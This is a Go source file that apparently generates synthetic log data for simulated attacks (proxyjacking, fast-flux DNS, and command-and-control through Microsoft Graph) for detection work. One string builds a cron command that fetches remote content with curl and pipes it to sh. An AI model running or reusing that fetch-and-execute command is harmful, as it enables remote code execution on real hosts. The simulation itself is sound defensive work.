package gen

import (
	"slices"
	"strings"
)

// relays hide behind addresses that many use, or make the council's own one of those.
func relays() []kind {
	return []kind{
		{"proxyjacking", 2, (*attack).proxyjacking},
		{"fast-flux", 2, (*attack).fastFlux},
		{"graph-control", 3, (*attack).graphControl},
	}
}

// proxyjacking (T1496.002, T1090): the print server's bandwidth is sold to strangers. It holds a connection to a broker and visits for his
// customers whatever they like, which are the sites that everybody visits and some others, day and night. Sysdig and Akamai described it in
// 2023.
func (a *attack) proxyjacking() {
	c, r, src := a.c, a.r, a.c.servers["print01"].ip
	broker, where := a.lair()
	name := "gw." + pick(r, webWords) + "proxy.example"
	a.step("broker")
	begin := a.between(2*hour, 16*hour)
	end := begin + 22*hour
	for at := begin; at < end; {
		length := float64(r.span(100*minute, 0.4) / second)
		a.beyond(at, src, nil, broker, where, name, 443, length, length*2_000, length*1_600)
		at += int64(length)*second + r.span(20*second, 0.5)
	}
	a.step("visit")
	for at := begin + minute; at < end; at += r.span(2*minute, 1) {
		s := c.web.visit(r, 0.15)
		a.beyond(at, src, nil, s.addr(r), s.country, s.name, 443, r.skewed(12, 1.3), r.skewed(2_400, 0.9), r.skewed(s.median, 1.1))
	}
}

// fastFlux (T1568.001, T1071.001): a bot calls a name that has another address each few minutes, each that of somebody's home in another
// country, with answers that may be kept for a minute or three. CISA, the NSA and others describe it in their advisory of April 2025
// (AA25-093A).
func (a *attack) fastFlux() {
	c, r, u := a.c, a.r, a.victim()
	name := strings.TrimPrefix(a.name(), "www.")
	ttl := uint64(r.between(60, 180))
	a.step("call")
	for at, end := a.between(8*hour, 14*hour), a.day+30*hour; at < end; at += r.span(9*minute, 0.3) {
		where := &countries[r.IntN(len(countries))]
		dst := where.addr(r)
		w := wire{src: u.ip, sport: r.ephemeral(), dst: c.servers["dc01"].ip, dport: 53, proto: "UDP", id: flowID(r)}
		id := uint64(r.IntN(65536))
		a.q.put(at, eveDNSQuery(a.q.buf(), at, &w, id, name, "A"))
		reply := at + r.span(40*second/1000, 0.5)
		w.src, w.dst, w.sport, w.dport = w.dst, w.src, w.dport, w.sport
		var data [16]byte
		a.q.put(reply, eveDNSAnswer(a.q.buf(), reply, &w, id, name, "A", "NOERROR", ttl, dst.append(data[:0])))
		a.call(reply+second/50, u.ip, u, dst, where, 443, "HTTPS", 2, 1_400, 2_200)
	}
}

// graphControl (T1102.002, T1053.003, T1567.002): a server takes its orders from a folder at Microsoft's cloud, with the curl that it has and
// by its cron, and leaves its answers there. The council's people are at that cloud all day; this server never was. Symantec reported in May
// 2024 how many groups use this interface.
func (a *attack) graphControl() {
	c, r := a.c, a.r
	s, login := c.servers["revben01"], "revben"
	if r.chance(0.5) {
		s, login = c.servers["web01"], "www-data"
	}
	cloud := &c.web.sites[slices.IndexFunc(c.web.sites, func(s website) bool { return s.name == "graph.microsoft.com" })]
	command := "curl -s -H @/var/tmp/.h https://" + cloud.name + "/v1.0/me/drive/root:/" + r.letters(6) + ":/content | sh"
	a.step("orders")
	at, end := a.between(6*hour, 20*hour), a.day+60*hour
	for at -= at % (30 * minute); at < end; at += 30 * minute {
		pid, when := process(r), at+second+r.Int64N(second)
		a.q.put(when, s.opened(a.q.buf(), when, "CRON", pid, "cron", login, 0, "root", 0))
		a.q.put(when+second/1000, s.cron(a.q.buf(), when+second/1000, pid+1, login, command))
		sent := 1_500.0
		if r.chance(0.06) {
			sent = 2.5e7
		}
		a.beyond(when+second/10, s.ip, nil, cloud.addr(r), cloud.country, cloud.name, 443, 2, sent, 5_000)
		done := when + 3*second
		a.q.put(done, s.ended(a.q.buf(), done, "CRON", pid, "cron", login))
	}
}
